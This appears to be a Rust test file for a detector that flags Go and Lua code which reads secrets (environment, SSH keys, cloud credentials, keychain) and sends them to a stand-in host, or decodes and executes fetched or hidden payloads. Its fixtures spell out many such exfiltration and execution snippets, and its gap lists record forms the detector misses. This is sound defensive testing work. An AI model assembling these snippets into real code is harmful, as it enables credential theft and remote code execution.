//! What Go and Lua offer to carry secrets out and to run what was fetched or hidden.

use crate::matrix::Matrix;

const GO: &str = "\
package main

import (
	\"bytes\"
	\"encoding/base64\"
	\"encoding/hex\"
	\"encoding/json\"
	\"fmt\"
	\"io\"
	\"net\"
	\"net/http\"
	\"net/smtp\"
	\"net/url\"
	\"os\"
	\"os/exec\"
	\"path/filepath\"
	\"strings\"
)
";

#[test]
fn go_sends_secrets() {
    crate::matrix::check(&Matrix {
        file: "notes.go",
        header: GO,
        sources: &[
            "strings.Join(os.Environ(), \"\\n\")",
            "os.Environ()",
            "fmt.Sprint(os.Environ())",
            "os.ExpandEnv(strings.Join(os.Environ(), \",\"))",
            "syscall.Environ()",
            "exec.Command(\"env\").Output()",
            "exec.Command(\"printenv\").CombinedOutput()",
            "os.ReadFile(\"/proc/self/environ\")",
            "ioutil.ReadFile(os.Getenv(\"HOME\") + \"/.ssh/id_rsa\")",
            "os.ReadFile(filepath.Join(os.Getenv(\"HOME\"), \".aws\", \"credentials\"))",
            "os.ReadFile(os.ExpandEnv(\"$HOME/.netrc\"))",
            "os.ReadFile(fmt.Sprintf(\"%s/.kube/config\", os.Getenv(\"HOME\")))",
            "exec.Command(\"cat\", os.Getenv(\"HOME\")+\"/.ssh/id_rsa\").Output()",
            "exec.Command(\"security\", \"find-generic-password\", \"-wa\", \"login\").Output()",
            "exec.Command(\"sh\", \"-c\", \"cat ~/.git-credentials\").Output()",
            "keyring.Get(\"svc\", \"me\")",
        ],
        sinks: &[
            "http.Post(\"https://drop.kestrelmetrics.io/i\", \"text/plain\", strings.NewReader(DATA))",
            "http.Post(\"https://drop.kestrelmetrics.io/i\", \"text/plain\", bytes.NewBufferString(DATA))",
            "http.Post(\"https://drop.kestrelmetrics.io/i\", \"text/plain\", bytes.NewReader([]byte(DATA)))",
            "http.PostForm(\"https://drop.kestrelmetrics.io/i\", url.Values{\"d\": {DATA}})",
            "http.Get(\"https://drop.kestrelmetrics.io/i?d=\" + url.QueryEscape(DATA))",
            "http.Get(fmt.Sprintf(\"https://drop.kestrelmetrics.io/i?d=%s\", DATA))",
            "req, _ := http.NewRequest(\"POST\", \"https://drop.kestrelmetrics.io/i\", strings.NewReader(DATA))\nhttp.DefaultClient.Do(req)",
            "req, _ := http.NewRequest(http.MethodGet, \"https://drop.kestrelmetrics.io/i\", nil)\nreq.Header.Set(\"X-D\", DATA)\n(&http.Client{}).Do(req)",
            "client := &http.Client{Timeout: 3 * time.Second}\nclient.Post(\"https://drop.kestrelmetrics.io/i\", \"text/plain\", strings.NewReader(DATA))",
            "values := url.Values{}\nvalues.Set(\"d\", DATA)\nhttp.PostForm(\"https://drop.kestrelmetrics.io/i\", values)",
            "body := new(bytes.Buffer)\njson.NewEncoder(body).Encode(map[string]interface{}{\"d\": DATA})\nhttp.Post(\"https://drop.kestrelmetrics.io/i\", \"application/json\", body)",
            "body, _ := json.Marshal(map[string]any{\"d\": DATA})\nhttp.Post(\"https://drop.kestrelmetrics.io/i\", \"application/json\", bytes.NewReader(body))",
            "conn, _ := net.Dial(\"tcp\", \"drop.kestrelmetrics.io:443\")\nconn.Write([]byte(DATA))",
            "conn, _ := net.Dial(\"tcp\", \"drop.kestrelmetrics.io:443\")\nfmt.Fprintf(conn, \"%s\", DATA)",
            "conn, _ := net.DialTimeout(\"tcp\", \"drop.kestrelmetrics.io:443\", 3)\nio.WriteString(conn, DATA)",
            "conn, _ := tls.Dial(\"tcp\", \"drop.kestrelmetrics.io:443\", nil)\nio.Copy(conn, strings.NewReader(DATA))",
            "net.LookupHost(DATA + \".drop.kestrelmetrics.io\")",
            "net.LookupTXT(fmt.Sprintf(\"%s.drop.kestrelmetrics.io\", DATA))",
            "net.DefaultResolver.LookupHost(ctx, DATA+\".drop.kestrelmetrics.io\")",
            "smtp.SendMail(\"drop.kestrelmetrics.io:25\", nil, \"a@b.c\", []string{\"d@e.f\"}, []byte(DATA))",
            "exec.Command(\"curl\", \"-d\", DATA, \"https://drop.kestrelmetrics.io/i\").Run()",
            "cmd := exec.Command(\"curl\", \"--data-binary\", \"@-\", \"https://drop.kestrelmetrics.io/i\")\ncmd.Stdin = strings.NewReader(DATA)\ncmd.Run()",
            "resty.New().R().SetBody(DATA).Post(\"https://drop.kestrelmetrics.io/i\")",
        ],
        shapes: &[
            "func main() {\n\tSEND SOURCE\n}",
            "func main() {\n\tdata := SOURCE\n\tSEND data\n}",
            "func main() {\n\tdata, _ := SOURCE\n\tSEND data\n}",
            "func main() {\n\tvar data = SOURCE\n\tSEND data\n}",
            "var data = SOURCE\n\nfunc main() {\n\tSEND data\n}",
            "func main() {\n\tif data, err := SOURCE; err == nil {\n\t\tSEND data\n\t}\n}",
            "func collect() string {\n\treturn SOURCE\n}\n\nfunc main() {\n\tSEND collect()\n}",
            "func collect() (string, error) {\n\treturn SOURCE, nil\n}\n\nfunc main() {\n\tdata, _ := collect()\n\tSEND data\n}",
            "func collect() map[string]any {\n\treturn map[string]any{\"env\": SOURCE}\n}\n\nfunc main() {\n\tSEND collect()\n}",
            "func collect() (out string) {\n\tout = SOURCE\n\treturn\n}\n\nfunc main() {\n\tSEND collect()\n}",
            "func ship(data string) {\n\tSEND data\n}\n\nfunc main() {\n\tship(SOURCE)\n}",
            "func ship(kind string, data []byte) error {\n\tSEND data\n\treturn nil\n}\n\nfunc main() {\n\tship(\"x\", SOURCE)\n}",
            "type Report struct {\n\tBody string\n}\n\nfunc (r *Report) Send() {\n\tSEND r.Body\n}\n\nfunc main() {\n\tr := &Report{Body: SOURCE}\n\tr.Send()\n}",
            "type Report struct{ Body string }\n\nfunc main() {\n\tr := Report{}\n\tr.Body = SOURCE\n\tSEND r.Body\n}",
            "type Report struct{}\n\nfunc (r Report) gather() string {\n\treturn SOURCE\n}\n\nfunc main() {\n\tSEND Report{}.gather()\n}",
            "func main() {\n\tinfo := map[string]interface{}{\"host\": \"x\", \"env\": SOURCE}\n\tbody, _ := json.Marshal(info)\n\tSEND body\n}",
            "func main() {\n\tinfo := map[string]string{}\n\tinfo[\"env\"] = SOURCE\n\tbody, _ := json.Marshal(info)\n\tSEND body\n}",
            "func main() {\n\tvar sb strings.Builder\n\tsb.WriteString(SOURCE)\n\tSEND sb.String()\n}",
            "func main() {\n\tvar buf bytes.Buffer\n\tfmt.Fprintln(&buf, SOURCE)\n\tSEND buf.String()\n}",
            "func main() {\n\tvar buf bytes.Buffer\n\tzw := gzip.NewWriter(&buf)\n\tzw.Write([]byte(SOURCE))\n\tzw.Close()\n\tSEND buf.String()\n}",
            "func main() {\n\tparts := []string{}\n\tparts = append(parts, SOURCE)\n\tSEND strings.Join(parts, \"\")\n}",
            "func main() {\n\tdata := base64.StdEncoding.EncodeToString([]byte(SOURCE))\n\tSEND data\n}",
            "func main() {\n\tdata := hex.EncodeToString([]byte(SOURCE))\n\tSEND data\n}",
            "func main() {\n\traw := SOURCE\n\tdata := fmt.Sprintf(\"report %s\", raw)\n\tSEND data\n}",
            "func main() {\n\tdata := \"report \" + SOURCE\n\tSEND data\n}",
            "func main() {\n\tfor _, item := range SOURCE {\n\t\tSEND item\n\t}\n}",
            "func main() {\n\traw := SOURCE\n\tfor i := 0; i < len(raw); i += 60 {\n\t\tSEND raw[i:i+60]\n\t}\n}",
            "func main() {\n\tgo func() {\n\t\tdata := SOURCE\n\t\tSEND data\n\t}()\n}",
            "func main() {\n\tgo func(data string) {\n\t\tSEND data\n\t}(SOURCE)\n}",
            "func main() {\n\tgather := func() string { return SOURCE }\n\tSEND gather()\n}",
            "func main() {\n\tch := make(chan string, 1)\n\tch <- SOURCE\n\tdata := <-ch\n\tSEND data\n}",
            "func main() {\n\tos.WriteFile(\"/tmp/r.txt\", []byte(SOURCE), 0644)\n\tdata, _ := os.ReadFile(\"/tmp/r.txt\")\n\tSEND data\n}",
            "func init() {\n\tdefer func() {\n\t\tSEND SOURCE\n\t}()\n}",
            "func main() {\n\tswitch {\n\tcase true:\n\t\tdata := SOURCE\n\t\tSEND data\n\t}\n}",
        ],
        around: &[
            "var r = '\"'\nvar s = '\\''",
            "var t = `it's \"raw\"`",
            "// don't \"stop\n/* isn't */",
            "var re = regexp.MustCompile(`[\"']`)",
            "type T struct {\n\tA string `json:\"a,omitempty\"`\n}",
        ],
        harmless: &["\"v1.2.0\"", "os.Getenv(\"LANG\")", "os.ReadFile(\"CHANGELOG.md\")"],
        gaps: &[],
    });
}

#[test]
fn go_runs_what_was_fetched_or_hidden() {
    crate::matrix::check(&Matrix {
        file: "notes.go",
        header: GO,
        sources: &[
            "base64.StdEncoding.DecodeString(\"Y3VybCBodHRwOi8vZXZpbA==\")",
            "base64.RawStdEncoding.DecodeString(\"Y3VybCBodHRwOi8vZXZpbA\")",
            "base64.URLEncoding.DecodeString(\"Y3VybCBodHRwOi8vZXZpbA==\")",
            "base32.StdEncoding.DecodeString(\"MN2XE3BANB2HI4B2\")",
            "hex.DecodeString(\"6375726c20687474703a\")",
            "exec.Command(\"curl\", \"-s\", \"https://drop.kestrelmetrics.io/p\").Output()",
            "[]byte{99, 117, 114, 108, 32, 104, 116, 116, 112}",
        ],
        sinks: &[
            "exec.Command(\"sh\", \"-c\", string(DATA)).Run()",
            "exec.Command(\"bash\", \"-c\", string(DATA)).Start()",
            "exec.CommandContext(ctx, \"sh\", \"-c\", string(DATA)).Run()",
            "exec.Command(\"/bin/sh\", \"-c\", string(DATA)).Output()",
            "cmd := exec.Command(\"sh\")\ncmd.Stdin = bytes.NewReader(DATA)\ncmd.Run()",
            "cmd := exec.Command(\"bash\")\nw, _ := cmd.StdinPipe()\nw.Write(DATA)",
            "os.WriteFile(\"/tmp/u\", DATA, 0755)\nexec.Command(\"/tmp/u\").Start()",
            "os.WriteFile(\"/tmp/u.sh\", DATA, 0755)\nexec.Command(\"sh\", \"/tmp/u.sh\").Run()",
            "f, _ := os.CreateTemp(\"\", \"u\")\nf.Write(DATA)\nos.Chmod(f.Name(), 0755)\nexec.Command(f.Name()).Start()",
            "syscall.Exec(\"/bin/sh\", []string{\"sh\", \"-c\", string(DATA)}, os.Environ())",
            "os.WriteFile(\"/tmp/u.so\", DATA, 0644)\nplugin.Open(\"/tmp/u.so\")",
            "os.StartProcess(\"/bin/sh\", []string{\"sh\", \"-c\", string(DATA)}, nil)",
        ],
        shapes: &[
            "func main() {\n\tdata, _ := SOURCE\n\tSEND data\n}",
            "func load() []byte {\n\tdata, err := SOURCE\n\tif err != nil {\n\t\treturn nil\n\t}\n\treturn data\n}\n\nfunc main() {\n\tSEND load()\n}",
            "func run(data []byte) {\n\tSEND data\n}\n\nfunc main() {\n\tcode, _ := SOURCE\n\trun(code)\n}",
            "func main() {\n\traw, _ := SOURCE\n\tdata := strings.TrimSpace(string(raw))\n\tSEND data\n}",
        ],
        around: &["var r = '\"'"],
        harmless: &["\"git status\""],
        gaps: &["[]byte{99, 117, 114, 108, 32, 104, 116, 116, 112}"],
    });
}

const LUA: &str = "\
local http = require('socket.http')
local https = require('ssl.https')
local socket = require('socket')
local ltn12 = require('ltn12')
local mime = require('mime')
local json = require('dkjson')
";

/// Without a socket: a shell beside one is a finding of its own.
const LUA_RUN: &str = "\
local http = require('socket.http')
local https = require('ssl.https')
local mime = require('mime')
local json = require('dkjson')
";

const LUA_SHAPES: &[&str] = &[
    "SEND SOURCE",
    "local data = SOURCE\nSEND data",
    "data = SOURCE\nSEND data",
    "local a, data = 1, SOURCE\nSEND data",
    "local function collect()\n  return SOURCE\nend\nSEND collect()",
    "function collect()\n  return SOURCE\nend\nSEND collect()",
    "local collect = function()\n  return SOURCE\nend\nSEND collect()",
    "local M = {}\nfunction M.collect()\n  return SOURCE\nend\nSEND M.collect()",
    "local M = {}\nM.collect = function() return SOURCE end\nSEND M.collect()",
    "local M = { collect = function() return SOURCE end }\nSEND M.collect()",
    "local function ship(data)\n  SEND data\nend\nship(SOURCE)",
    "local M = {}\nfunction M:ship(data)\n  SEND data\nend\nM:ship(SOURCE)",
    "local R = {}\nR.__index = R\nfunction R.new()\n  local self = setmetatable({}, R)\n  self.data = SOURCE\n  return self\nend\nfunction R:send()\n  SEND self.data\nend\nR.new():send()",
    "local info = { host = 'x', env = SOURCE }\nSEND json.encode(info)",
    "local info = {}\ninfo.env = SOURCE\nSEND json.encode(info)",
    "local info = {}\ninfo['env'] = SOURCE\nSEND json.encode(info)",
    "local parts = {}\ntable.insert(parts, SOURCE)\nSEND table.concat(parts)",
    "local parts = {}\nparts[#parts + 1] = SOURCE\nSEND table.concat(parts, ',')",
    "local data = 'report ' .. SOURCE\nSEND data",
    "local data = string.format('report %s', SOURCE)\nSEND data",
    "local data = ('report %s'):format(SOURCE)\nSEND data",
    "local data = mime.b64(SOURCE)\nSEND data",
    "local raw = SOURCE\nlocal data = raw:gsub('.', function(c) return string.format('%02x', c:byte()) end)\nSEND data",
    "for _, item in ipairs({ SOURCE }) do\n  SEND item\nend",
    "local raw = SOURCE\nfor chunk in raw:gmatch('.....') do\n  SEND chunk\nend",
    "local f = io.open('/tmp/r.txt', 'w')\nf:write(SOURCE)\nf:close()\nlocal g = io.open('/tmp/r.txt')\nlocal data = g:read('*a')\nSEND data",
    "pcall(function()\n  local data = SOURCE\n  SEND data\nend)",
    "do\n  local data = SOURCE\n  if data then\n    SEND data\n  end\nend",
    "local data = SOURCE or ''\nSEND data",
    "coroutine.wrap(function()\n  SEND SOURCE\nend)()",
    "local co = coroutine.wrap(function()\n  coroutine.yield(SOURCE)\nend)\nSEND co()",
];

const LUA_AROUND: &[&str] = &[
    "-- don't \"stop\nlocal q = 'it\\'s'",
    "--[[ isn't \"it ]]",
    "--[==[ isn't\n]] \"it ]==]",
    "local s = [[it's \"raw\"]]",
    "local s = [==[it's ]] \"raw\"]==]",
    "local t = s:match(\"['\\\"](.-)['\\\"]\")",
    "local n = #'it\"s' // 2",
    "goto done\n::done::",
];

#[test]
fn lua_sends_secrets() {
    crate::matrix::check(&Matrix {
        file: "notes.lua",
        header: LUA,
        sources: &[
            "io.popen('env'):read('*a')",
            "io.popen('printenv'):read('a')",
            "io.open('/proc/self/environ'):read('*a')",
            "io.open(os.getenv('HOME') .. '/.ssh/id_rsa'):read('*a')",
            "io.open(os.getenv('HOME') .. '/.aws/credentials', 'r'):read('*all')",
            "assert(io.open(os.getenv('HOME') .. '/.netrc')):read('*a')",
            "io.popen('cat ~/.ssh/id_rsa'):read('*a')",
            "io.popen('security find-generic-password -wa login'):read('*l')",
            "io.lines(os.getenv('HOME') .. '/.git-credentials')()",
            "vim.fn.readfile(vim.fn.expand('~/.ssh/id_rsa'))",
            "vim.fn.environ()",
            "vim.fn.system('env')",
            "vim.loop.os_environ()",
        ],
        sinks: &[
            "http.request('http://drop.kestrelmetrics.io/i', DATA)",
            "https.request('https://drop.kestrelmetrics.io/i', DATA)",
            "http.request{ url = 'http://drop.kestrelmetrics.io/i', method = 'POST', source = ltn12.source.string(DATA) }",
            "https.request({ url = 'https://drop.kestrelmetrics.io/i', method = 'POST', headers = { d = DATA } })",
            "http.request('http://drop.kestrelmetrics.io/i?d=' .. DATA)",
            "require('socket.http').request('http://drop.kestrelmetrics.io/i', DATA)",
            "require('ssl.https').request('https://drop.kestrelmetrics.io/i', DATA)",
            "local c = socket.tcp()\nc:connect('drop.kestrelmetrics.io', 443)\nc:send(DATA)",
            "local c = socket.connect('drop.kestrelmetrics.io', 443)\nc:send(DATA)",
            "local c = assert(socket.connect('drop.kestrelmetrics.io', 443))\nc:send(DATA)",
            "local u = socket.udp()\nu:sendto(DATA, 'drop.kestrelmetrics.io', 53)",
            "socket.dns.toip(DATA .. '.drop.kestrelmetrics.io')",
            "os.execute('curl -d \"' .. DATA .. '\" https://drop.kestrelmetrics.io/i')",
            "os.execute(string.format(\"curl -d '%s' https://drop.kestrelmetrics.io/i\", DATA))",
            "io.popen('curl -d @- https://drop.kestrelmetrics.io/i', 'w'):write(DATA)",
            "local p = io.popen('curl -T - https://drop.kestrelmetrics.io/i', 'w')\np:write(DATA)\np:close()",
            "require('requests').post('https://drop.kestrelmetrics.io/i', { data = DATA })",
            "require('resty.http').new():request_uri('https://drop.kestrelmetrics.io/i', { method = 'POST', body = DATA })",
            "vim.fn.system({ 'curl', '-d', DATA, 'https://drop.kestrelmetrics.io/i' })",
            "vim.system({ 'curl', '-d', '@-', 'https://drop.kestrelmetrics.io/i' }, { stdin = DATA })",
            "require('plenary.curl').post('https://drop.kestrelmetrics.io/i', { body = DATA })",
            "local req = require('http.request').new_from_uri('https://drop.kestrelmetrics.io/i')\nreq:set_body(DATA)\nreq:go()",
            "local curl = require('cURL')\ncurl.easy({ url = 'https://drop.kestrelmetrics.io/i', postfields = DATA }):perform()",
        ],
        shapes: LUA_SHAPES,
        around: LUA_AROUND,
        harmless: &["'v1.2.0'", "io.open('CHANGELOG.md'):read('*a')", "os.getenv('LANG')"],
        gaps: &[
            "require('resty.http').new():request_uri('https://drop.kestrelmetrics.io/i', { method = 'POST', body = DATA })",
            "io.popen('curl -d @- https://drop.kestrelmetrics.io/i', 'w'):write(DATA)",
        ],
    });
}

#[test]
fn lua_runs_what_was_fetched_or_hidden() {
    crate::matrix::check(&Matrix {
        file: "notes.lua",
        header: LUA_RUN,
        sources: &[
            "http.request('http://drop.kestrelmetrics.io/p')",
            "https.request('https://drop.kestrelmetrics.io/p')",
            "require('socket.http').request('http://drop.kestrelmetrics.io/p')",
            "io.popen('curl -s https://drop.kestrelmetrics.io/p'):read('*a')",
            "mime.unb64('b3MuZXhlY3V0ZSgnaWQnKQ==')",
            "require('base64').decode('b3MuZXhlY3V0ZSgnaWQnKQ==')",
            "string.char(111, 115, 46, 101, 120, 101, 99)",
            "string.reverse(')\"di\"(etucexe.so')",
            "(')\"di\"(etucexe.so'):reverse()",
            "('6f732e65786563757465'):gsub('..', function(h) return string.char(tonumber(h, 16)) end)",
            "'\\111\\115\\046\\101\\120\\101\\099\\117\\116\\101'",
            "'\\x6f\\x73\\x2e\\x65\\x78\\x65\\x63\\x75\\x74\\x65'",
        ],
        sinks: &[
            "load(DATA)()",
            "loadstring(DATA)()",
            "assert(load(DATA))()",
            "assert(loadstring(DATA))()",
            "local f = load(DATA)\nif f then f() end",
            "pcall(load(DATA))",
            "pcall(loadstring, DATA)",
            "_G['load'](DATA)()",
            "_G.loadstring(DATA)()",
            "os.execute(DATA)",
            "io.popen(DATA)",
            "io.popen(DATA):read('*a')",
            "os.execute('sh -c ' .. DATA)",
            "io.popen('sh', 'w'):write(DATA)",
            "local p = io.popen('bash', 'w')\np:write(DATA)\np:close()",
            "local f = io.open('/tmp/u.lua', 'w')\nf:write(DATA)\nf:close()\ndofile('/tmp/u.lua')",
            "local f = io.open('/tmp/u.sh', 'w')\nf:write(DATA)\nf:close()\nos.execute('sh /tmp/u.sh')",
            "local f = assert(io.open('/tmp/u.lua', 'w'))\nf:write(DATA)\nf:close()\nloadfile('/tmp/u.lua')()",
            "vim.cmd(DATA)",
            "vim.fn.system(DATA)",
        ],
        shapes: LUA_SHAPES,
        around: LUA_AROUND,
        harmless: &["'return 1'"],
        gaps: &[
            "(')\"di\"(etucexe.so'):reverse()",
            "('6f732e65786563757465'):gsub('..', function(h) return string.char(tonumber(h, 16)) end)",
            "local info = {}\ninfo.env = SOURCE\nSEND json.encode(info)",
            "io.popen('sh', 'w'):write(DATA)",
            "'\\111\\115\\046\\101\\120\\101\\099\\117\\116\\101'",
            "'\\x6f\\x73\\x2e\\x65\\x78\\x65\\x63\\x75\\x74\\x65'",
        ],
    });
}
